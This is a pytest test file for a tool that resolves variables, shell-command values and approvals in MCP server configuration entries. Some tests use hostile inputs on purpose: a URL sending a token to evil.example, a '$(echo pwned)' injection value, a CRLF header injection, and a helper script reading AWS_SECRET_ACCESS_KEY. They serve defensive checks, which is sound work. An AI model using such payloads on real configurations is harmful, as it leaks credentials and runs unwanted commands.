"""Tests of resolving entries: variables in each syntax, and approved commands."""

import asyncio
import os
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fairlead.client.server_entry import MCPStdioServerConfig
from fairlead.config.found_server import EnvironmentReference, Input
from fairlead.config.host_files.normalize_entry import normalize_entry
from fairlead.config.hosts import HOSTS
from fairlead.config.variables import secret_commands
from fairlead.config.variables.resolve import Resolved, resolve, resolve_in_thread
from fairlead.config.variables.variable_syntax import (
    DIALECTS,
    MissingInput,
    VariableScope,
    substitute,
)
from fairlead.errors import ConfigError
from fairlead.manager import FoundServer, NotApproved, Trust, load_all_mcp_configs

ENV = {"A": "1", "EMPTY": "", "TOKEN": "s3cret", "NESTED": "${A}"}


def found(raw: dict[str, Any], host: str = "fairlead", **more: Any) -> FoundServer:
    """Return an entry as the reader of a program would build it."""
    table = {one.id: one for one in HOSTS}
    of = table[host]
    spelled = normalize_entry((of.adapt(raw) if of.adapt else raw) or {}, unit=of.timeout_unit)
    fields: dict[str, Any] = {
        "name": "srv",
        "host": of.id,
        "host_title": of.title,
        "path": "/c/file.json",
        "line": 7,
        "level": "user",
        "raw": raw,
        "entry": spelled.entry,
        "dialect": of.dialect,
        "lookups": spelled.lookups,
        "env_file": spelled.env_file,
        "headers_helper": spelled.headers_helper,
        "workspace": "/lab/engine",
        "home": "/home/ada",
    }
    return FoundServer(**{**fields, **more})


def text(host: str, value: str, env: Mapping[str, str] = ENV, **more: Any) -> str:
    """Return the resolved value of an argument in an entry of a program."""
    made = resolve(found({"type": "stdio", "command": "x", "args": [value]}, host), env, **more)
    return made.entry.args[0]  # type: ignore[union-attr]


@pytest.mark.covers("CFG-09")
@pytest.mark.parametrize(
    ("host", "value", "expected"),
    [
        ("fairlead", "${A}-${B:-two}-${EMPTY:-three}", "1-two-three"),
        ("fairlead", "${B}", "${B}"),
        ("fairlead", "$A ${A%x} ${A#y} ${#A} $${A", "$A ${A%x} ${A#y} ${#A} $${A"),
        ("fairlead", "${B:-${A}}", "1"),
        ("fairlead", '${B:-{"a": 1}}', '{"a": 1}'),
        ("fairlead", "${NESTED}", "${A}"),
        ("fairlead", "${env:A} {env:A}", "${env:A} {env:A}"),
        ("claude-code", "${A} ${B:-b} ${B}", "1 b ${B}"),
        ("dot-mcp-json", "${A}", "1"),
        ("omp", "${A} ${B}", "1 ${B}"),
        ("claude-desktop", "${A} $A", "${A} $A"),
        ("codex", "${A} $A", "${A} $A"),
        ("zed", "${A}", "${A}"),
        ("fx", "${A}", "${A}"),
        ("vscode", "${env:A}${env:B}|${A}", "1|${A}"),
        ("vscode", "${workspaceFolder}${pathSeparator}x", "/lab/engine/x"),
        ("vscode", "${workspaceFolder:other} ${userHome}", "/lab/engine /home/ada"),
        ("cursor", "${workspaceFolderBasename}${/}${env:A}", "engine/1"),
        ("windsurf", "${env:A}", "1"),
        ("roo", "${env:A} ${env:B} ${workspaceFolder}", "1 ${env:B} /lab/engine"),
        ("gemini", "$A ${A} ${B:-b} $B ${B} %A%", "1 1 b $B ${B} %A%"),
        ("qwen", "$A", "1"),
        ("opencode", "{env:A}{env:B}|${A}", "1|${A}"),
        ("kilo", "{env:A}", "1"),
        ("continue", "${{ secrets.A }} ${{secrets.B}} ${A}", "1 ${{secrets.B}} ${A}"),
        ("goose", "$A ${A}", "$A ${A}"),
        ("mcporter", "${A} ${B:-b} $env:A $A", "1 b 1 $A"),
    ],
)
def test_variables_are_resolved_with_the_syntax_of_their_program(
    host: str, value: str, expected: str
) -> None:
    assert text(host, value) == expected


def test_unset_variables_without_a_default_are_reported() -> None:
    entry = {"command": "${X}", "args": ["${Y}", "${X}", "${v%p}", "${Z:-z}"], "env": {"E": "${W}"}}
    made = resolve(found(entry), ENV)
    assert set(made.missing) == {"X", "Y", "W"}


def test_mcporter_rejects_unset_variables() -> None:
    with pytest.raises(ConfigError, match=r'/c/file.json:7: Server "srv": .* B is not set'):
        text("mcporter", "${B}")


def test_variables_in_all_strings_of_a_remote_entry_are_expanded() -> None:
    entry = {
        "type": "http",
        "url": "https://${A}.example/mcp",
        "headers": {"X": "Bearer ${TOKEN}"},
        "oauth": {"clientSecret": "${TOKEN}", "scopes": ["${A}"]},
    }
    made = resolve(found(entry), ENV).entry
    assert made.url == "https://1.example/mcp"  # type: ignore[union-attr]
    assert made.headers == {"X": "Bearer s3cret"}  # type: ignore[union-attr]
    assert made.oauth == {"clientSecret": "s3cret", "scopes": ["1"]}


def test_resolving_does_not_change_the_found_entry() -> None:
    raw = found({"command": "x", "env": {"T": "${TOKEN}"}})
    made = resolve(raw, ENV)
    assert raw.entry.env == {"T": "${TOKEN}"}  # type: ignore[union-attr]
    assert made.entry.env == {"T": "s3cret"}  # type: ignore[union-attr]
    assert "s3cret" not in repr(made)


def test_gemini_expands_env_and_headers_twice() -> None:
    entry = {"command": "x", "env": {"N": "$NESTED", "U": "a${B}b", "P": "%A%"}}
    made = resolve(found(entry, "gemini"), ENV).entry
    assert made.env == {"N": "1", "U": "ab", "P": "%A%"}  # type: ignore[union-attr]
    windows = resolve(found(entry, "gemini", platform="win32"), ENV).entry
    assert windows.env["P"] == "1"  # type: ignore[union-attr]


def test_codex_and_goose_refer_to_variables_by_name() -> None:
    entry = {
        "url": "https://x",
        "bearer_token_env_var": "TOKEN",
        "env_http_headers": {"X-A": "A", "X-B": "NOT_SET"},
        "http_headers": {"X-C": "${A}"},
    }
    made = resolve(found(entry, "codex"), ENV)
    assert made.entry.headers == {  # type: ignore[union-attr]
        "Authorization": "Bearer s3cret",
        "X-A": "1",
        "X-C": "${A}",
    }
    assert made.missing == ("NOT_SET",)
    stdio = {"type": "stdio", "cmd": "g", "envs": {"E": "e"}, "env_keys": ["A"]}
    made = resolve(found(stdio, "goose"), ENV)
    assert made.entry.env == {"E": "e", "A": "1"}  # type: ignore[union-attr]


def test_variables_of_goose_refer_to_values_in_its_own_configuration() -> None:
    entry = {
        "type": "streamable_http",
        "uri": "https://x/$TENANT/$A",
        "headers": {"H": "${ TOKEN }"},
        "envs": {"TENANT": "acme"},
        "env_keys": ["TOKEN"],
    }
    made = resolve(found(entry, "goose"), ENV).entry
    assert made.url == "https://x/acme/$A"  # type: ignore[union-attr]
    assert made.headers == {"H": "s3cret"}  # type: ignore[union-attr]


def test_opencode_file_references_are_relative_to_its_configuration(tmp_path: Path) -> None:
    (tmp_path / "token").write_text("from-file\n")
    here = {"path": str(tmp_path / "opencode.json"), "home": str(tmp_path)}
    entry = {"type": "remote", "url": "https://x", "headers": {"A": "{file:token} {file:~/token}"}}
    made = resolve(found(entry, "opencode", **here), ENV).entry
    assert made.headers == {"A": "from-file from-file"}  # type: ignore[union-attr]
    entry["url"] = "{file:nowhere}"
    with pytest.raises(ConfigError, match="nowhere does not exist"):
        resolve(found(entry, "opencode", **here), ENV)


def test_a_missing_input_is_an_error() -> None:
    with pytest.raises(MissingInput, match="missing input 'key'") as caught:
        text("vscode", "${input:key}")
    assert (caught.value.input_id, caught.value.path) == ("key", "/c/file.json")
    assert text("vscode", "${input:key}", inputs={"key": "${env:A}"}) == "${env:A}"


def test_an_input_has_its_default_value_unless_the_user_provides_one() -> None:
    needs = (Input("key", default="usual"),)
    one = found({"command": "x", "args": ["${input:key}"]}, "vscode", needs_input=needs)
    assert resolve(one, ENV).entry.args == ["usual"]  # type: ignore[union-attr]
    given = resolve(one, ENV, inputs={"key": "mine"}).entry
    assert given.args == ["mine"]  # type: ignore[union-attr]


@pytest.mark.parametrize("value", ["${config:a.b}", "${command:x.y}"])
def test_variables_that_only_an_editor_can_resolve_are_rejected(value: str) -> None:
    with pytest.raises(ConfigError, match="has a value only inside the editor"):
        text("vscode", value)


def test_values_of_the_entry_override_the_env_file(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text(
        '# comment\nexport A=file\nB = "two\\nlines" # why\n'
        "C='$x'\nD=plain # no\r\nE=\nnot a line\n"
    )
    entry = {"command": "x", "env": {"A": "entry"}, "envFile": "${workspaceFolder}/.env"}
    made = resolve(found(entry, "vscode", workspace=str(tmp_path)), ENV)
    assert made.entry.env == {  # type: ignore[union-attr]
        "A": "entry",
        "B": "two\nlines",
        "C": "$x",
        "D": "plain",
        "E": "",
    }
    entry["envFile"] = "gone.env"
    made = resolve(found(entry, "vscode", workspace=str(tmp_path)), ENV)
    assert "gone.env of `envFile` does not exist" in made.warnings[0]


def test_relative_working_directories_are_resolved_against_the_project() -> None:
    made = [resolve(found({"command": "x", "cwd": cwd}), ENV).entry for cwd in ("~/a", "b", "/c")]
    assert [one.cwd for one in made] == ["/home/ada/a", "/lab/engine/b", "/c"]  # type: ignore[union-attr]


def test_invisible_characters_around_a_value_are_removed() -> None:
    entry = {"command": " x\ufeff", "args": [" kept "], "env": {"T": "\u200b${TOKEN}\r\n"}}
    made = resolve(found(entry), ENV)
    assert made.entry.command == "x"  # type: ignore[union-attr]
    assert made.entry.args == [" kept "]  # type: ignore[union-attr]
    assert made.entry.env == {"T": "s3cret"}  # type: ignore[union-attr]
    assert made.warnings == (
        'Server "srv": env.T: surrounding white space was removed',
        'Server "srv": command: surrounding white space was removed',
    )


def test_a_header_value_with_a_line_break_is_rejected() -> None:
    entry = {"type": "http", "url": "https://x", "headers": {"X": "a${NL}b"}}
    with pytest.raises(ConfigError, match="the header 'X' contains a line break"):
        resolve(found(entry), {"NL": "\r\nEvil: 1"})


# Commands


@pytest.mark.covers("CFG-10")
def test_an_environment_value_may_be_a_command_a_variable_name_or_a_literal() -> None:
    entry = {"command": "x", "env": {"C": "!echo out; echo err >&2", "N": "TOKEN", "L": "TOKENS"}}
    for host in ("fairlead", "omp"):
        made = resolve(found(entry, host), {**ENV, "PATH": os.environ["PATH"]}).entry
        assert made.env == {"C": "out", "N": "s3cret", "L": "TOKENS"}  # type: ignore[union-attr]


@pytest.mark.covers("CFG-10")
def test_values_in_entries_of_other_programs_are_never_run_as_commands() -> None:
    entry = {"command": "x", "env": {"C": "!echo out", "N": "TOKEN"}}
    for host in ("claude-code", "cursor", "dot-mcp-json", "fx"):
        made = resolve(found(entry, host), ENV).entry
        assert made.env == entry["env"]  # type: ignore[union-attr]


@pytest.mark.covers("CFG-10")
def test_a_failing_command_omits_only_its_value(tmp_path: Path) -> None:
    env = {"PATH": os.environ["PATH"]}
    entry = {"command": "x", "env": {"F": "!echo s3cret; exit 3", "E": "!true", "OK": "fine"}}
    made = resolve(found(entry), env)
    assert made.entry.env == {"OK": "fine"}  # type: ignore[union-attr]
    assert made.warnings == (
        'Server "srv": env.F is omitted: its command failed (exit code 3)',
        'Server "srv": env.E is omitted: its command failed (empty output)',
    )


@pytest.mark.covers("CFG-10")
def test_a_value_command_that_times_out_is_not_awaited_even_if_it_has_children(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(secret_commands, "LIMIT", 0.3)
    entry = {"command": "x", "env": {"S": "!sleep 60 & sleep 60"}}
    made = resolve(found(entry), {"PATH": os.environ["PATH"]}, trust=Trust(tmp_path / "t"))
    assert made.entry.env == {}  # type: ignore[union-attr]
    assert "no result within 0.3 seconds" in made.warnings[0]


def test_a_value_command_with_endless_output_fails(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(secret_commands, "LIMIT", 0.5)
    entry = {"command": "x", "env": {"S": "!yes"}}
    made = resolve(found(entry), {"PATH": os.environ["PATH"]}, trust=Trust(tmp_path / "t"))
    assert made.entry.env == {}  # type: ignore[union-attr]


@pytest.mark.covers("CFG-10")
def test_the_output_of_a_value_command_is_cached(tmp_path: Path) -> None:
    entry = {"command": "x", "env": {"C": f"!echo x >> {tmp_path}/runs; echo done"}}
    for _ in range(3):
        resolve(found(entry), {"PATH": os.environ["PATH"]}, trust=Trust(tmp_path / "t"))
    assert (tmp_path / "runs").read_text() == "x\n"


def test_variables_in_a_value_command_are_expanded_by_the_shell_and_not_by_fairlead() -> None:
    env = {"PATH": os.environ["PATH"], "V": "$(echo pwned)", "FAIRLEAD_KEY": "k"}
    entry = {"command": "x", "env": {"C": '!echo "${V}|${FAIRLEAD_KEY:-none}"'}}
    made = resolve(found(entry), env).entry
    assert made.env == {"C": "$(echo pwned)|none"}  # type: ignore[union-attr]


def test_the_value_of_a_variable_is_never_run_as_a_command(tmp_path: Path) -> None:
    entry = {"command": "x", "env": {"C": "${EVIL}", "D": "EVIL"}}
    made = resolve(found(entry), {"EVIL": f"!touch {tmp_path}/evil"}).entry
    assert made.env["C"].startswith("!touch")  # type: ignore[union-attr]
    assert not (tmp_path / "evil").exists()


@pytest.mark.parametrize(
    ("host", "key"), [("claude-code", "headersHelper"), ("codex", "http_headers_helper")]
)
def test_a_header_helper_provides_headers_without_access_to_credentials(
    monkeypatch: pytest.MonkeyPatch, host: str, key: str
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "s3cret")
    script = """printf '{"X-A": "%s", "X-N": "%s"}' "$AWS_SECRET_ACCESS_KEY" """
    script += '"$CLAUDE_CODE_MCP_SERVER_NAME"'
    entry = {"url": "https://x", key: script}
    made = resolve(found(entry, host), ENV).entry
    assert made.headers == {"X-A": "", "X-N": "srv"}  # type: ignore[union-attr]


@pytest.mark.parametrize("script", ["echo nonsense", "echo '[]'", "echo '{\"a\": 1}'", "exit 1"])
def test_a_header_helper_that_fails_causes_a_warning(script: str) -> None:
    entry = {"url": "https://x", "headers": {"X": "1"}, "headersHelper": script}
    made = resolve(found(entry, "claude-code"), ENV)
    assert made.entry.headers == {"X": "1"}  # type: ignore[union-attr]
    assert "the `headersHelper` command failed" in made.warnings[0]


def test_an_unapproved_project_entry_is_not_resolved(tmp_path: Path) -> None:
    trust = Trust(tmp_path / "approvals.json")
    touch = f"touch {tmp_path}/ran"
    for entry, host in (
        ({"command": "x", "env": {"C": f"!{touch}"}}, "fairlead-project"),
        ({"url": "https://x", "headersHelper": f"{touch}; echo '{{}}'"}, "dot-mcp-json"),
        ({"url": "https://evil.example/${TOKEN}"}, "dot-mcp-json"),
    ):
        one = found(entry, host, level="project")
        with pytest.raises(NotApproved):
            resolve(one, ENV, trust=trust)
        assert not (tmp_path / "ran").exists()
        trust.approve(one)
        assert isinstance(resolve(one, dict(os.environ), trust=trust), Resolved)
        (tmp_path / "ran").unlink(missing_ok=True)


async def test_resolving_an_entry_does_not_block_the_event_loop(tmp_path: Path) -> None:
    made = await resolve_in_thread(found({"command": "${A}"}), env=ENV)
    assert made.entry.command == "1"  # type: ignore[union-attr]

    os.mkfifo(tmp_path / "pipe")  # opening the pipe blocks until this event loop writes to it
    one = found({"command": "x", "env": {"C": f"!cat {tmp_path}/pipe"}})
    waiting = asyncio.create_task(resolve_in_thread(one, env=dict(os.environ)))
    async with asyncio.timeout(8):
        await asyncio.to_thread((tmp_path / "pipe").write_text, "said")
        assert (await waiting).entry.env == {"C": "said"}  # type: ignore[union-attr]


def test_entries_of_all_programs_can_be_resolved(tmp_path: Path) -> None:
    from tests.support.home_directory import full_home

    machine = full_home(tmp_path)
    env = {"PATH": os.environ["PATH"], "PORTER": "p"}
    loaded = load_all_mcp_configs(machine.cwd, home=machine.home, env=env, platform="linux")
    trust = Trust(tmp_path / "approvals.json")
    for one in loaded.found.values():
        if one.level == "project":
            trust.approve(one)
        inputs = {asked.id: "typed" for asked in one.needs_input}
        resolve(one, env, trust=trust, inputs=inputs)


def test_warnings_and_errors_do_not_contain_values_of_the_entry() -> None:
    entry = {"command": "x", "cwd": "/c", "env": {"E": "hunter22"}, "envFile": "hunter22/${TOKEN}"}
    made = resolve(found(entry, "vscode"), ENV)
    assert "hunter22" not in str(made.warnings)
    porter = {"baseUrl": "${hunter22}", "headers": {"A": "hunter22"}}
    with pytest.raises(ConfigError) as caught:
        resolve(found(porter, "mcporter"), ENV)
    assert "hunter22" not in str(caught.value)


# Property tests of variables

TEXTS = st.text(alphabet="${}:-%AB_envfile/secrets.! \n")
VALUES = st.dictionaries(st.sampled_from(["A", "B", "AB", "_"]), st.text(alphabet="${}AB%!"))


@given(st.sampled_from(sorted(DIALECTS)), TEXTS, VALUES)
def test_resolving_any_text_returns_a_value_or_raises_a_config_error(
    dialect: str, value: str, env: dict[str, str]
) -> None:
    scope = VariableScope(env=env, read_file=lambda path: "file")
    try:
        made = substitute(value, dialect, scope, "url")
    except ConfigError:
        return
    if not set("$%{") & set(value):
        assert made == value


@given(st.sampled_from(["fairlead", "claude", "omp", "mcporter"]), st.text(), st.text())
def test_the_value_of_a_variable_is_substituted_unchanged(
    dialect: str, value: str, around: str
) -> None:
    around = around.replace("$", "")
    scope = VariableScope(env={"A": value})
    assert substitute(f"{around}${{A}}{around}", dialect, scope) == f"{around}{value}{around}"
    assert scope.missing == {}


def test_resolving_a_long_text_of_opening_braces_takes_linear_time() -> None:
    for piece in ("${A:-", "${", "{env:", "${{ secrets.", "%A", "${A:-{"):
        for dialect in DIALECTS:
            value = piece * 20_000
            assert substitute(value, dialect, VariableScope(env={}), "url")


def test_a_cached_value_still_requires_approval(tmp_path: Path) -> None:
    entry, env = {"command": "x", "env": {"A": "!echo remembered"}}, {"PATH": os.environ["PATH"]}
    one = found(entry, level="project")
    trusted, other = Trust(tmp_path / "a"), Trust(tmp_path / "b")
    trusted.approve(one)
    made = resolve(one, env, trust=trusted).entry
    assert made.env == {"A": "remembered"}  # type: ignore[union-attr]
    with pytest.raises(NotApproved):
        resolve(one, env, trust=other)


def test_a_referenced_project_file_is_used_with_its_approved_content(tmp_path: Path) -> None:
    path = str(tmp_path / ".env")
    entry = {"command": "x", "envFile": path}
    trust = Trust(tmp_path / "t")
    for contents, expected in (({path: b"A=1"}, {"A": "1"}), ({path: None}, {})):
        one = found(entry, level="project", env_file=path, contents=contents)
        trust.approve(one)
        made = resolve(one, ENV, trust=trust)
        assert made.entry.env == expected  # type: ignore[union-attr]
    other = found(entry, level="project", env_file=path, contents={})
    trust.approve(other)
    with pytest.raises(ConfigError) as refused:
        resolve(other, ENV, trust=trust)
    assert refused.value.args[0] == (
        f'Server "srv": the path of {path} depends on an input or on a variable that has changed, '
        "so the approval does not cover the file"
    )


@pytest.mark.parametrize(
    "more",
    [
        {"lookups": (EnvironmentReference("env", "K", "TOKEN"),)},
        {"entry": MCPStdioServerConfig(command="x", env={"K": "s3cret"})},
        {"entry": MCPStdioServerConfig(command="x", env={"K": "TOKEN"})},
    ],
    ids=["looked up", "as it is", "by its name"],
)
def test_warnings_of_resolution_contain_no_values(more: dict[str, Any]) -> None:
    one = found({"command": "x"}, env_file="/none/${TOKEN}/env", **more)
    [warning] = resolve(one, ENV).warnings
    assert "s3cret" not in warning
    assert warning.endswith("of `envFile` does not exist")
